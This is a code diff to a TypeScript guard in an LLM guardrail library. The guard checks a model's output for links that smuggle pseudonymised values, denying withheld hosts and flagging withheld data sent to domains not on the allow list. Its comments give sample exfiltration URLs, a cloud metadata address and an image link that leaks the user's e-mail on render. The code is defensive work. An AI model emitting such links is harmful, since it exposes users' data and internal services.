@@ -1,6 +1,8 @@
 import { z } from 'zod';
 import { type Finding, findingFor, type Guard, type GuardFactory, type Segment, trailingTokenSuffix } from '../../core/index.js';
-import { analyzeUrl, urlsInText, type UrlPolicy } from '../toolcalls/urls.js';
+import { placeholderSpans } from '../../transform/placeholder.js';
+import { domainMatches } from '../toolcalls/net.js';
+import { analyzeUrl, parseUrl, urlsInText, type UrlPolicy } from '../toolcalls/urls.js';
 
 const level = z.enum(['deny', 'review', 'allow']);
 
@@ -45,14 +47,60 @@ export const linksGuardFactory: GuardFactory<LinksConfig> = {
       appliesTo: (segment: Segment) => segment.direction === 'output' && segment.kind === 'message',
       inspect(segment: Segment): Finding[] {
         if (!segment.text.includes(':')) return [];
+        const withheld = placeholderSpans(segment.text);
+        const text = withheld.length > 0 ? maskPlaceholders(segment.text, withheld) : segment.text;
         const findings: Finding[] = [];
-        for (const link of urlsInText(segment.text)) {
-          for (const issue of analyzeUrl(link.url, policy)) {
-            findings.push(findingFor(options.id, segment, `link.${issue.category}`, issue.level === 'deny' ? issue.score : Math.min(issue.score, 0.7), `${link.image ? 'image' : 'link'}: ${issue.reason}`, { start: link.start, end: link.end }));
-          }
+        const report: Report = (link, category, severity, score, reason) => {
+          findings.push(findingFor(options.id, segment, `link.${category}`, severity === 'deny' ? score : Math.min(score, 0.7), `${link.image ? 'image' : 'link'}: ${reason}`, { start: link.start, end: link.end }));
+        };
+        for (const link of urlsInText(text)) {
+          const inside = withheld.length === 0 ? withheld : withheld.filter((p) => p.start >= link.start && p.end <= link.end);
+          // A withheld host is the whole verdict: what the masked name would say about it means nothing.
+          if (inside.length > 0 && judgeWithheld(link, inside, text, policy, config.dataToUnknown, report)) continue;
+          for (const issue of analyzeUrl(link.url, policy)) report(link, issue.category, issue.level, issue.score, issue.reason);
         }
         return findings;
       },
     };
   },
 };
+
+type FoundUrl = ReturnType<typeof urlsInText>[number];
+type Report = (link: FoundUrl, category: string, severity: z.infer<typeof level>, score: number, reason: string) => void;
+
+/**
+ * `<IP_ADDRESS_1>` with its brackets as `_IP_ADDRESS_1_`: the same length (spans stay true), and a
+ * link built around a placeholder parses as one URL instead of breaking at the bracket.
+ */
+function maskPlaceholders(text: string, spans: readonly { start: number; end: number }[]): string {
+  let out = '';
+  let at = 0;
+  for (const p of spans) {
+    out += `${text.slice(at, p.start)}_${text.slice(p.start + 1, p.end - 1)}_`;
+    at = p.end;
+  }
+  return out + text.slice(at);
+}
+
+/**
+ * A link that holds a pseudonym placeholder gets the real value back after the output guards ran
+ * (the answer is restored last), so what the client receives cannot be judged from this text:
+ * `http://<IP_ADDRESS_1>/latest/meta-data/` may be the metadata service, and
+ * `https://x.example/p.png?u=<EMAIL_ADDRESS_1>` sends the user's own e-mail address out as soon as
+ * the image renders. A withheld host (or a URL that does not parse) is refused: true, the link's whole
+ * verdict. A withheld value elsewhere in the URL is data sent to that domain, judged like any
+ * data-bearing query (`dataToUnknown`) unless the domain is allowed.
+ */
+function judgeWithheld(link: FoundUrl, inside: readonly { start: number; end: number; label: string }[], text: string, policy: UrlPolicy, dataToUnknown: z.infer<typeof level>, report: Report): boolean {
+  const url = parseUrl(link.url);
+  const labels = [...new Set(inside.map((p) => p.label))].join(', ');
+  const host = url?.hostname.toLowerCase();
+  if (host === undefined || inside.some((p) => host.includes(text.slice(p.start, p.end).toLowerCase()))) {
+    report(link, 'withheld_host', 'deny', 0.95, `its host is a value withheld from the model (${labels}), put back after the guards: where it leads cannot be judged`);
+    return true;
+  }
+  if (dataToUnknown !== 'allow' && !policy.allow.some((d) => domainMatches(d, host))) {
+    report(link, 'data_exfiltration', dataToUnknown, 0.9, `it would carry a value of the conversation (${labels}) to ${host}, which is not on the allow list`);
+  }
+  return false;
+}
